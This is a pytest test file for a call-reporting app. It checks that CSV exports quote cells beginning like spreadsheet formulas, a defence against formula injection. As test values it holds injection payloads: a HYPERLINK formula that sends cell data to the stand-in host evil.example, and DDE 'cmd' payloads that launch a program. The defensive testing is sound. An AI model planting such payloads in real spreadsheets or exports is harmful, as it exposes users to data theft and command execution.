"""CSV a spreadsheet opens safely: a name that starts like a formula is written as text, in
the web download and in `report calls --csv` alike (both are reports.tables.report_csv)."""

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest

from customers.directory import add_customer
from dutyline.spreadsheet import safe_cell
from reports import Span, report
from reports.tables import report_csv

LONDON = ZoneInfo("Europe/London")
AT_10 = datetime(2026, 12, 1, 10, 0, tzinfo=LONDON)
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("value, written", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+44 7911 123401", "'+44 7911 123401"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),                        # the shortest formula start
    ("", ""),                           # empty: nothing to start with
    ("Ben Smith", "Ben Smith"),
    ("A=B", "A=B"),                     # only the first character counts
    (" =1+1", " =1+1"),                 # a leading space is not read as a formula
    ("'=1+1", "'=1+1"),                 # already text: not quoted twice
    ("\n=1+1", "\n=1+1"),               # a new line is a line inside a quoted cell
    ("2026-12-01", "2026-12-01"),
    (-5, -5),                           # numbers the product writes stay numbers
    (-0.25, -0.25),
    (0, 0),
    (None, None),
])
def test_a_text_cell_that_starts_like_a_formula_is_quoted(value, written):
    assert safe_cell(value) == written


def _rows(text):
    return {row["label"]: row for row in csv.DictReader(io.StringIO(text))}


def test_names_in_the_report_csv_come_out_as_text(settings, db, log_call, make_engineer):
    eve = make_engineer(HYPERLINK)
    mallory = make_engineer("-1+cmd|' /C calc'!A0")
    customer = add_customer("@SUM(1+1)*cmd|' /C calc'!A0", ["+442071838751"], region="GB")
    log_call(AT_10, answered=10, ended=60, customer=customer,
             legs=[(eve, "accepted", 1, 8, 10, 60)])
    log_call(AT_10.replace(hour=11), ended=40, legs=[(mallory, "no-answer", 1, None, None, 15)])
    span = Span.days(settings, date(2026, 12, 1), date(2026, 12, 1))

    by_engineer = _rows(report_csv(report(span, "engineer")))
    assert by_engineer["'" + HYPERLINK]["accepted"] == "1"
    assert "'-1+cmd|' /C calc'!A0" in by_engineer
    by_customer = _rows(report_csv(report(span, "customer")))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in by_customer
    for text in (report_csv(report(span, group)) for group in ("engineer", "customer")):
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
